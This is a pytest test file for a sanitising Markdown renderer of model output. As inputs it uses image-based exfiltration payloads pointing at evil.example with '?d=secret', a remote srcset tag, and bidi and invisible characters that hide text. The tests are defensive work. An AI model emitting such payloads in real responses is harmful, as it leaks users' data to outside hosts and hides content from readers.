"""Markdown of models becomes the design's HTML, and nothing that runs, loads or hides."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from csuite.conversations.markdown import render
from csuite.documents.text import visible
from tests.conversations.hostile import HOSTILE

ALLOWED = {
    *(
        "p",
        "br",
        "hr",
        "em",
        "strong",
        "s",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "a",
        "span",
        "div",
    ),
    *("table", "thead", "tbody", "tr", "th", "td", "h3", "h4", "h5", "h6"),
}
ATTRIBUTES = {"href", "rel", "class", "scope", "tabindex", "role", "aria-label", "start"}


def assert_harmless(html: str) -> None:
    for tag, attributes in re.findall(r"<(/?[a-zA-Z][^\s>/]*)([^>]*)>", html):
        assert tag.lstrip("/") in ALLOWED, html
        for name, value in re.findall(r'([^\s=/]+)="([^"]*)"', attributes):
            assert name in ATTRIBUTES, html
            assert name != "href" or value.startswith(("https://", "http://", "mailto:")), html
        assert re.fullmatch(r'(\s+[^\s="]+="[^"]*")*\s*', attributes), html


@pytest.mark.parametrize("attack", HOSTILE)
def test_an_attack_becomes_inert_text(attack: str) -> None:
    assert_harmless(render(attack))
    assert_harmless(render(f"before\n\n{attack}\n\nafter"))


@given(st.text(alphabet=st.sampled_from(list("<>\"'&`*_~#|-[]()!:/\\ \nabcjx1=")), max_size=120))
def test_no_mixture_of_markup_becomes_an_element_that_we_do_not_know(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize(
    "image",
    [
        "![chart](https://evil.example/?d=secret)",
        "![chart][1]\n\n[1]: https://evil.example/?d=secret",
        "[![chart](https://evil.example/a.png)](https://evil.example/)",
        '<img srcset="https://evil.example/a 1x">',
    ],
)
def test_a_remote_image_is_never_loaded(image: str) -> None:
    html = render(image)
    assert "<img" not in html
    assert "srcset=" not in re.sub(r"&[a-z]+;", "", html) or "&lt;img" in html


def test_an_image_becomes_a_link_that_names_its_host() -> None:
    html = render("![chart](https://evil.example/a.png)")
    assert '<a href="https://evil.example/a.png" rel="noopener noreferrer nofollow">chart</a>' in html
    assert '<span class="host">(evil.example)</span>' in html


def test_a_link_shows_its_host_unless_its_words_are_the_address() -> None:
    assert '<span class="host">(evil.example)</span>' in render("[our bank](https://evil.example/)")
    assert "(evil.example)" in render("[https://bank.example/?evil.example](https://evil.example/)")
    assert 'class="host"' not in render("<https://bank.example/login>")


@pytest.mark.parametrize(
    "address", ["/accounts/logout/", "//evil.example/x", "ftp://x.example", "https://", "https://[x"]
)
def test_an_address_that_is_not_absolute_http_is_only_text(address: str) -> None:
    assert "<a" not in render(f"[words](<{address}>)")
    assert "words" in render(f"[words](<{address}>)")


def test_a_table_gets_the_classes_of_the_design() -> None:
    html = render("| Cause | Points |\n|---|--:|\n| Freight | -1.1 |\n")
    assert html.startswith('<div class="scroll-x"')
    assert '<table class="table">' in html
    assert '<th scope="col" class="n">Points</th>' in html
    assert '<th scope="row">Freight</th>' in html
    assert '<td class="n">-1.1</td>' in html
    assert "style" not in html


def test_headings_start_below_the_page_and_never_skip_a_level() -> None:
    assert re.findall(r"<h(\d)", render("## a\n\n#### b\n\n# c\n\n###### d")) == ["3", "4", "3", "4"]


def test_code_is_coloured_by_classes() -> None:
    html = render("```python\ndef f():\n    return 'x'  # why\n```")
    assert '<pre class="code" tabindex="0"><code><span class="k">def</span> <span class="f">f</span>' in html
    assert '<span class="c"># why</span>' in html


def test_an_unknown_language_is_plain_code() -> None:
    assert render("```nonsense\na < b\n```") == '<pre class="code" tabindex="0"><code>a &lt; b\n</code></pre>'


def test_characters_that_hide_or_reverse_text_are_dropped() -> None:
    hidden = "safe\u202eevil\u2066\U000e0041\u200b\x00 end"
    assert visible(hidden) == "safeevil end"
    assert render(hidden) == "<p>safeevil end</p>"


def test_joined_emoji_and_persian_stay_as_they_are() -> None:
    assert visible("👩‍💻 می‌خواهم") == "👩‍💻 می‌خواهم"
